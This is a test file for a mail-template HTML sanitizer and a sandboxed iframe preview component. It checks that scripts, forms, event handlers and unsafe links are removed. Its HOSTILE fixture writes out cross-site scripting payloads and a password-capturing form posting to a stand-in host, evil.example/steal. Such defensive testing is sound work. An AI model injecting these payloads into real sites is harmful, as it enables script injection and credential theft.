/**
 * Template HTML (issue 11, item 7): one component shows it everywhere, reduced to an allow-list of tags
 * and rendered in a frame sandboxed without any permission, under a policy that loads no script.
 */
import { render, screen } from '@testing-library/react';
import { describe, expect, it } from 'vitest';
import SafeHtml, { frameDocument } from '@/engine/fields/SafeHtml';
import { htmlToText } from '@/engine/fields/htmlText';
import { sanitizeTemplateHtml } from '@/engine/fields/sanitizeHtml';

const HOSTILE = [
  '<p>Hello <strong>there</strong></p>',
  '<script>parent.document.title = "pwned"</script>',
  '<img src="https://cdn.example.com/x.png" onerror="alert(1)">',
  '<style>body { display: none }</style>',
  '<form action="https://evil.example/steal"><input type="password" name="p"><input name="u"><button>Go</button></form>',
  '<a href="javascript:alert(2)">js</a><a href="data:text/html,<script>alert(3)</script>">data</a>',
  '<iframe src="/users"></iframe><object data="x.swf"></object><embed src="x.swf"><svg onload="alert(4)"></svg>',
  '<a href="https://example.com/ok">ok</a><a href="//evil.example/x">proto</a><img src="/\\evil.example/x.png">',
  '<div onclick="alert(5)" style="color: #c62828">red</div><meta http-equiv="refresh" content="0;url=https://evil.example">',
].join('');

describe('sanitizeTemplateHtml', () => {
  const clean = sanitizeTemplateHtml(HOSTILE);
  const doc = new DOMParser().parseFromString(clean, 'text/html');

  it('keeps the markup a mail needs', () => {
    expect(doc.querySelector('p strong')?.textContent).toBe('there');
    expect(doc.querySelector('img')?.getAttribute('src')).toBe('https://cdn.example.com/x.png');
    expect(doc.querySelector('a[href="https://example.com/ok"]')?.textContent).toBe('ok');
    expect(doc.querySelector('div')?.getAttribute('style')).toBe('color: #c62828');
  });

  it('drops scripts, style sheets, forms, inputs, frames, objects and event handlers', () => {
    for (const tag of ['script', 'style', 'form', 'input', 'button', 'iframe', 'object', 'embed', 'svg', 'meta']) {
      expect(doc.querySelectorAll(tag), tag).toHaveLength(0);
    }
    expect(clean).not.toMatch(/onerror|onclick|onload|pwned|type="password"/i);
  });

  it('keeps only http(s), mail and console addresses', () => {
    const hrefs = [...doc.querySelectorAll('a')].map((a) => a.getAttribute('href'));
    expect(hrefs.filter((h) => h !== null)).toEqual(['https://example.com/ok']);
    expect(clean).not.toMatch(/javascript:|data:text|evil\.example/);
  });

  it('makes console paths absolute (the frame has no origin) and opens links nowhere', () => {
    const out = new DOMParser().parseFromString(
      sanitizeTemplateHtml('<img src="/unity/uploads/logo.png"><a href="/signin">in</a>'),
      'text/html',
    );
    expect(out.querySelector('img')?.getAttribute('src')).toBe(`${window.location.origin}/unity/uploads/logo.png`);
    expect(out.querySelector('a')?.getAttribute('target')).toBe('_blank');
    expect(out.querySelector('a')?.getAttribute('rel')).toBe('noopener noreferrer');
  });

  it('gives list cells the text alone', () => {
    expect(htmlToText('<p>Hello <b>you</b></p><script>x()</script>')).toBe('Hello you');
  });
});

describe('SafeHtml', () => {
  it('renders in a frame sandboxed without any permission, its document under a no-script policy', () => {
    render(<SafeHtml html={HOSTILE} title="Description preview" height={200} />);
    const frame = screen.getByTitle('Description preview');
    expect(frame.tagName).toBe('IFRAME');
    expect(frame.getAttribute('sandbox')).toBe('');
    expect(frame.getAttribute('referrerpolicy')).toBe('no-referrer');
    const srcdoc = frame.getAttribute('srcdoc') ?? '';
    const doc = new DOMParser().parseFromString(srcdoc, 'text/html');
    const policy = doc.querySelector('meta[http-equiv="Content-Security-Policy"]')?.getAttribute('content') ?? '';
    expect(policy).toMatch(/default-src 'none'/);
    expect(policy).not.toMatch(/script-src/);
    // The one style sheet is the frame's own, in the head; the template's is gone.
    expect(doc.querySelectorAll('style')).toHaveLength(1);
    expect(doc.head.contains(doc.querySelector('style'))).toBe(true);
    expect(doc.body.querySelectorAll('script, style, form, input, iframe')).toHaveLength(0);
    expect(doc.body.textContent).toContain('Hello there');
  });

  it('is the same document for the same HTML (the preview and the field show one thing)', () => {
    expect(frameDocument('<p>a</p>')).toBe(frameDocument('<p>a</p>'));
    expect(frameDocument(undefined)).toContain('<body></body>');
  });
});
